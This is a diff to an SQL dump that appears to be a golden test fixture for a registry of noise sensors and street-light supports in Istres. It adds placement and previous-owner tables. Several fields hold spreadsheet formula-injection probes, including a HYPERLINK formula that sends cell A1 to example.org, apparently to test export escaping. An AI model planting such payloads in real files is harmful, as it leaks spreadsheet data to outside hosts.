@@ -166,6 +166,7 @@ CREATE TABLE "equipment" (
   "support_id" TEXT,
   "network" TEXT,
   "installed_on" TEXT,
+  "placed_on" TEXT,
   "decommissioned_on" TEXT,
   "removed_on" TEXT,
   "active_until" TEXT,
@@ -212,8 +213,8 @@ CREATE TABLE "equipment" (
   FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
   FOREIGN KEY ("replaces") REFERENCES "equipment" ("id")
 );
-INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11','2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
-INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
+INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
+INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11','2024-05-01',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
 CREATE TABLE "equipment_captures" (
   "equipment_id" TEXT,
   "n" INTEGER,
@@ -253,6 +254,31 @@ CREATE TABLE "equipment_mobile_insee_codes" (
 );
 INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',1,'13047');
 INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',2,'13055');
+CREATE TABLE "equipment_placements" (
+  "equipment_id" TEXT,
+  "n" INTEGER,
+  "support" TEXT,
+  "location_lon" REAL,
+  "location_lat" REAL,
+  "from" TEXT,
+  "until" TEXT,
+  "reason" TEXT,
+  PRIMARY KEY ("equipment_id", "n"),
+  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
+  FOREIGN KEY ("support") REFERENCES "supports" ("id")
+);
+INSERT INTO "equipment_placements" VALUES('istres-noise-1',1,NULL,4.9871,43.5135,'2024-03-11','2024-03-31','	=1+1');
+INSERT INTO "equipment_placements" VALUES('istres-noise-1',2,'istres-ep-1',4.98748,43.51345,'2024-04-01','2024-04-30',NULL);
+CREATE TABLE "equipment_previous_owners" (
+  "equipment_id" TEXT,
+  "n" INTEGER,
+  "owner" TEXT,
+  "until" TEXT,
+  PRIMARY KEY ("equipment_id", "n"),
+  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
+  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
+);
+INSERT INTO "equipment_previous_owners" VALUES('istres-noise-1',1,'istres','2024-03-31');
 CREATE TABLE "equipment_use_cases" (
   "equipment_id" TEXT,
   "n" INTEGER,
@@ -423,11 +449,11 @@ INSERT INTO "parties_writers_keys" VALUES('istres',1,'SHA256:VpAew07yfl/pnwH6Qja
 CREATE TABLE "smartreg_about" (name TEXT PRIMARY KEY, value TEXT);
 INSERT INTO "smartreg_about" VALUES('version','1');
 INSERT INTO "smartreg_about" VALUES('registry','Golden registry');
-INSERT INTO "smartreg_about" VALUES('commit','e24fec9ca9bbe9f83d6ac2f81147ff0683612837');
+INSERT INTO "smartreg_about" VALUES('commit','bed0d9c9cb3092f1476e5c1b7710850c08a519b1');
 INSERT INTO "smartreg_about" VALUES('reference_date','2024-06-01');
 INSERT INTO "smartreg_about" VALUES('rules','<rules>');
 INSERT INTO "smartreg_about" VALUES('audience','internal');
-INSERT INTO "smartreg_about" VALUES('digest','sha256:a1d8ec0a502184d3729f2c20ec78fbe4e1b49b5d06526c8233250827cba27d86');
+INSERT INTO "smartreg_about" VALUES('digest','sha256:bc93ead185b548a4517aced32e2f6dd610666f7ad9b2079785ed57b6c0667025');
 CREATE TABLE "supports" (
   "id" TEXT,
   "type" TEXT,
@@ -460,6 +486,16 @@ CREATE TABLE "supports" (
   FOREIGN KEY ("manager_id") REFERENCES "parties" ("id")
 );
 INSERT INTO "supports" VALUES('istres-ep-1','street_light','istres','Istres','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','13047','Istres','A','in_service','-12.5','a;=1+1;b',4.0e-07,'steel',NULL,123456789.125,2,'2024-01-10','permanent',60.0,'	=1+1','internal',NULL,NULL,4.98747123456,43.5);
+CREATE TABLE "supports_previous_owners" (
+  "support_id" TEXT,
+  "n" INTEGER,
+  "owner" TEXT,
+  "until" TEXT,
+  PRIMARY KEY ("support_id", "n"),
+  FOREIGN KEY ("support_id") REFERENCES "supports" ("id"),
+  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
+);
+INSERT INTO "supports_previous_owners" VALUES('istres-ep-1',1,'metropole','2023-12-31');
 CREATE TABLE "use_cases" (
   "id" TEXT,
   "title" TEXT,
@@ -513,6 +549,7 @@ CREATE INDEX "idx_conventions_third_parties_party" ON "conventions_third_parties
 CREATE INDEX "idx_conventions_amendments_deliberations_deliberation_id" ON "conventions_amendments_deliberations" ("deliberation_id");
 CREATE INDEX "idx_supports_owner_id" ON "supports" ("owner_id");
 CREATE INDEX "idx_supports_manager_id" ON "supports" ("manager_id");
+CREATE INDEX "idx_supports_previous_owners_owner" ON "supports_previous_owners" ("owner");
 CREATE INDEX "idx_equipment_owner_id" ON "equipment" ("owner_id");
 CREATE INDEX "idx_equipment_support_id" ON "equipment" ("support_id");
 CREATE INDEX "idx_equipment_network" ON "equipment" ("network");
@@ -521,6 +558,8 @@ CREATE INDEX "idx_equipment_maintainer_id" ON "equipment" ("maintainer_id");
 CREATE INDEX "idx_equipment_convention_id" ON "equipment" ("convention_id");
 CREATE INDEX "idx_equipment_replaces" ON "equipment" ("replaces");
 CREATE INDEX "idx_equipment_use_cases_use_case_id" ON "equipment_use_cases" ("use_case_id");
+CREATE INDEX "idx_equipment_placements_support" ON "equipment_placements" ("support");
+CREATE INDEX "idx_equipment_previous_owners_owner" ON "equipment_previous_owners" ("owner");
 CREATE INDEX "idx_networks_operator_id" ON "networks" ("operator_id");
 CREATE INDEX "idx_networks_owner_id" ON "networks" ("owner_id");
 CREATE INDEX "idx_networks_convention_id" ON "networks" ("convention_id");
